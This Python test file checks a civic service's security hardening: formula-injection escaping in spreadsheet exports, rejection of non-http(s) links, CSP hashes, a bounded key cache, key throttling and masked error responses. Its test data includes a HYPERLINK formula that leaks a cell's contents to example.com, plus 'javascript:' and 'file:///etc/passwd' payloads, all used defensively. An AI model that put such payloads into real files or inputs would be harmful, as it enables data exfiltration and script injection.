"""Web security without a running stack (issue 12): formula injection in the exports, links other than http(s),
the Content-Security-Policy of a page, the bounded key cache and the throttling of wrong keys."""

from __future__ import annotations

import base64
import hashlib
from io import BytesIO

import pytest
from openpyxl import load_workbook
from pydantic import ValidationError

from civicbus import auth
from civicbus.auth import KeyStore, KeyThrottle
from civicbus.events import Actor, InspectionSubmission, TicketCommand
from civicbus.security import page_policy
from services.reporting.exports import WeeklyReport, quarterly_workbook, weekly_workbook

from .test_exports import GENERATED, OVERDUE, RECURRING, SUMMARY, TREND, VILLAGES, ZONE

INJECTED = ['=HYPERLINK("http://example.com/?leak="&A1,"点击查看")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


def test_a_cell_a_spreadsheet_would_read_as_a_formula_is_written_as_text() -> None:
    items = [{**OVERDUE["items"][0], "title": title} for title in INJECTED]
    report = WeeklyReport("示范街道", SUMMARY, TREND, {"total": len(items), "items": items}, RECURRING, [],
                          GENERATED, ZONE)
    quarter = {**SUMMARY, "period": {"kind": "quarter", "since": "2026-10-01", "until": "2026-12-31",
                                     "label": "2026年第4季度"}}
    named = {**VILLAGES, "items": [{**VILLAGES["items"][0], "name": "=1+1"}]}
    for data in (weekly_workbook(report), quarterly_workbook("示范街道", quarter, [named], GENERATED, ZONE)):
        cells = [cell for sheet in load_workbook(BytesIO(data)).worksheets for row in sheet.iter_rows()
                 for cell in row if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t",
                                                                                         "\r"))]
        assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    texts = {cell.value for sheet in load_workbook(BytesIO(weekly_workbook(report))).worksheets
             for row in sheet.iter_rows() for cell in row}
    # Written as they were, only as text (XML reads a carriage return back as a line feed).
    assert set(INJECTED) - {"\r=1"} <= texts


def test_a_control_character_a_citizen_typed_does_not_break_the_workbook() -> None:
    items = [{**OVERDUE["items"][0], "title": "路灯\x01不亮\x1f"}]
    report = WeeklyReport("示范街道", SUMMARY, TREND, {"total": 1, "items": items}, RECURRING, [], GENERATED, ZONE)
    texts = {cell.value for sheet in load_workbook(BytesIO(weekly_workbook(report))).worksheets
             for row in sheet.iter_rows() for cell in row}
    assert "路灯不亮" in texts


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,<b>", "file:///etc/passwd", "//x.cn/a.jpg",
                                 "ftp://x.cn/a.jpg", "https:///a.jpg"])
def test_a_link_other_than_http_is_refused(url) -> None:
    with pytest.raises(ValidationError, match="http"):
        InspectionSubmission(content="消防通道堵塞", inspection_type="安全生产", photos=[url])
    with pytest.raises(ValidationError, match="http"):
        TicketCommand(source="t", ticket_id="T", action="resolve", actor=Actor(name="a", role="admin"),
                      result="done", attachments=[url])


def test_http_links_are_kept() -> None:
    finding = InspectionSubmission(content="消防通道堵塞", inspection_type="安全生产",
                                   photos=["https://img.example.cn/1.jpg", "HTTP://x.cn/2.png"])
    assert finding.photos == ["https://img.example.cn/1.jpg", "HTTP://x.cn/2.png"]


def test_a_page_may_run_only_its_own_files_and_its_inline_blocks_by_hash() -> None:
    style, script = "body { color: red; }", "window.print();"
    policy = page_policy(f"<style>{style}</style><script src='/a.js'></script><script>{script}</script>")
    digest = {text: base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() for text in (style, script)}
    assert f"script-src 'self' 'sha256-{digest[script]}';" in policy
    assert f"style-src 'self' 'sha256-{digest[style]}';" in policy
    assert "unsafe" not in policy and "frame-ancestors 'none'" in policy
    assert "script-src 'self';" in page_policy("<p>no inline code</p>")


class _Keys:
    """A stand-in for the api_keys collection: every lookup is counted."""

    def __init__(self) -> None:
        self.lookups = 0

    async def find_one(self, query: dict) -> None:
        self.lookups += 1


async def test_the_key_cache_is_bounded_and_keeps_the_keys_in_use() -> None:
    keys = _Keys()
    store = KeyStore({auth.API_KEYS_COLLECTION: keys}, entries=3)  # type: ignore[arg-type]
    for key in ("a", "b", "c", "a", "d", "e"):  # "a" used again: "b" and "c" go first
        await store.find(key)
    assert len(store._cache) == 3 and keys.lookups == 5
    await store.find("a")
    assert keys.lookups == 5, "a key in use is still remembered"
    await store.find("b")
    assert keys.lookups == 6, "the least recently used was forgotten"
    assert len(KeyStore({auth.API_KEYS_COLLECTION: keys})._cache) == 0  # type: ignore[arg-type]
    assert auth.CACHE_ENTRIES >= 1000


def test_wrong_keys_are_throttled_per_address_for_the_rest_of_the_window(monkeypatch) -> None:
    now = [1000.0]
    monkeypatch.setattr(auth.time, "monotonic", lambda: now[0])
    throttle = KeyThrottle(allowed=3, window_s=60)
    for _ in range(3):
        assert throttle.retry_after("10.0.0.1") == 0
        throttle.failed("10.0.0.1")
    assert throttle.retry_after("10.0.0.1") == 60 and throttle.retry_after("10.0.0.2") == 0
    now[0] += 45
    assert throttle.retry_after("10.0.0.1") == 15
    now[0] += 16
    assert throttle.retry_after("10.0.0.1") == 0
    throttle.failed("10.0.0.1")
    assert throttle.retry_after("10.0.0.1") == 0, "a new window starts counting from one"


async def test_an_internal_error_is_answered_plainly_with_the_security_headers():
    import httpx
    from fastapi import APIRouter

    from civicbus.service import Runtime, service_app
    from services.triage.settings import TriageSettings

    broken = APIRouter()

    @broken.get("/broken")
    async def fail() -> None:
        raise RuntimeError("a bug, with 13800138000 in it")

    app = service_app(Runtime.build(TriageSettings()), title="t", description="d", routers=[broken])
    transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
        response = await client.get("/broken")
    assert response.status_code == 500 and response.json()["code"] == "internal_error"
    assert "13800138000" not in response.text, "the fault's text stays in the (masked) log"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
